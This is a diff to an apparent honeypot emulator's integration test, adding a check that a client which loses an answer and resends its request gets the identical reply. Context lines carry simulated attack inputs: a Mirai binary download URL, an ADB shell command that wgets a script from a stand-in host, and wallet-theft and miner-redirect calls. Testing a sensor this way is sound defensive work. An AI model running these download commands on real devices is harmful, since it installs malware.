@@ -15,6 +15,8 @@ clients' own calls, test/data/jsonrpc-client.cjs and the lines below):
   personal_newAccount, miner_setEtherbase and miner_start. The script exits 0 only
   when ethers took every answer.
 - curl over IPv6: eth_accounts and eth_blockNumber on one keep-alive connection.
+- A client written segment by segment (tcp_client_edges.py) sends eth_blockNumber, takes its
+  answer as lost and sends the request again a second later: the same answer must come back.
 - nc: Claymore's miner_getstat1 and a miner_file command on 3333.
 - curl: Mirai's Realtek UPnP exploit on 52869, carrying a download URL.
 - adb: connect to 5555, a shell command that downloads a script, a push of a small file.
@@ -53,6 +55,7 @@ NODE_DIR = os.environ.get("SCANSCOPE_NODE_DIR", "/opt/ssnode")
 VICTIM = "0x407d73d8a49eeb85d32cf465507dd71d507100c1"
 THIEF = "0x" + "cd" * 20
 RAW_THIEF = "0x" + "ef" * 20  # the recipient of jsonrpc-client.cjs's signed transaction
+LOST_SOURCE = "198.18.0.99"  # the client that loses an answer, written segment by segment
 DOWNLOAD = "http://192.0.2.66/bins/mirai.mips"
 ADB_SHELL = "cd /data/local/tmp; wget http://192.0.2.66/x.sh"
 PUSHED = b"#!/bin/sh\necho mined\n"
@@ -135,9 +138,22 @@ def telnet_client():
     return r.stdout + r.stderr
 
 
+def lost_answer_client():
+    """A client whose answer was lost sends its request again (tcp_client_edges.py, from
+    LOST_SOURCE, which no interface holds); what it received both times."""
+    r = in_ns(SCAN, sys.executable, os.path.join(os.path.dirname(__file__), "tcp_client_edges.py"),
+              SCAN_IF, mac_of(SCAN, SCAN_IF), mac_of(SENSOR, SENSOR_IF), LOST_SOURCE,
+              "198.19.0.15", "8545", "lost-answer", check=False, capture_output=True, text=True,
+              timeout=60)
+    try:
+        return json.loads(r.stdout)
+    except ValueError:
+        return {"error": r.stdout + r.stderr[-500:]}
+
+
 def clients(source_dir, tmp):
     """Each client once; what each of them received."""
-    got = {"adb": adb_client(tmp), "telnet": telnet_client()}
+    got = {"adb": adb_client(tmp), "telnet": telnet_client(), "lost": lost_answer_client()}
     client = os.path.join(source_dir, "test", "data", "jsonrpc-client.cjs")
     env = dict(os.environ, NODE_PATH=os.path.join(NODE_DIR, "node_modules"))
     r = in_ns(SCAN, "timeout", "60", "node", client, "http://198.19.0.10:8545", check=False,
@@ -193,13 +209,21 @@ def check_clients(got, failures):
     out = got["telnet"]
     if "login: " not in out or "Password: " not in out or "BusyBox" not in out:
         failures.append(f"telnet saw {out[-600:]!r}")
+    # The request sent again a second later gets the very answer (its Date and block number
+    # too) at the very sequence number: a client that lost it goes on.
+    lost = got["lost"]
+    first, again = lost.get("answer") or {}, lost.get("again") or {}
+    if not first.get("data", "").startswith("HTTP/1.1 200 OK") or \
+            (again.get("seq"), again.get("data")) != (first.get("seq"), first.get("data")):
+        failures.append(f"an answer the client lost was not sent again as it was: {lost}")
 
 
 # The steps each client's calls reach, by port: (segments, sources). jsonrpc-client.cjs makes
 # five recon calls and a batch of three (one request), three unlocks, two sends (one signed by
-# the client) and three miner calls, each its own request; curl over IPv6 two recon calls.
+# the client) and three miner calls, each its own request; curl over IPv6 two recon calls; the
+# client that loses its answer one (sent twice, taken once).
 EXPECTED_STEPS = {
-    (8545, "eth_recon"): (6 + 2, 2),
+    (8545, "eth_recon"): (6 + 2 + 1, 3),
     (8545, "eth_unlock"): (3, 1),
     (8545, "eth_send"): (2, 1),
     (8545, "eth_miner"): (3, 1),
@@ -225,9 +249,11 @@ def check_report(report, failures):
     counters = report["conversation"]["counters"]
     # Every connection that completed its handshake went on talking; the requests answered
     # are at least the clients' calls: ethers 14 (five, a batch, three, two, three), curl 2,
-    # nc 2, the exploit 1, telnet 3 lines, adb CNXN and two OPENs (its writes come on top).
+    # nc 2, the exploit 1, telnet 3 lines, adb CNXN and two OPENs (its writes come on top), the
+    # lost answer's call 1; that answer was sent again once.
     if counters["emulation_conversations"] != counters["responder_handshakes"] or \
-            counters["emulation_requests"] < 14 + 2 + 2 + 1 + 3 + 3:
+            counters["emulation_requests"] < 14 + 2 + 2 + 1 + 3 + 3 + 1 or \
+            counters["emulation_answers_resent"] != 1:
         failures.append(f"emulation counters: {counters}")
     for bad in ("emulation_malformed_http", "emulation_malformed_json", "emulation_too_large",
                 "emulation_table_full", "emulation_source_cap", "responder_unknown_acks"):
@@ -239,7 +265,7 @@ def check_narrative(source_dir, report_path, failures):
     """print-report.py's line for 8545, as an analyst reads it."""
     r = run(sys.executable, os.path.join(source_dir, "scripts", "print-report.py"), report_path,
             capture_output=True, text=True)
-    want = ("8545/tcp emulated: 2 sources asked the node about itself or its accounts, "
+    want = ("8545/tcp emulated: 3 sources asked the node about itself or its accounts, "
             "1 tried to unlock an account, 1 sent a transaction to 2 addresses, "
             "1 redirected its mining")
     if want not in r.stdout:
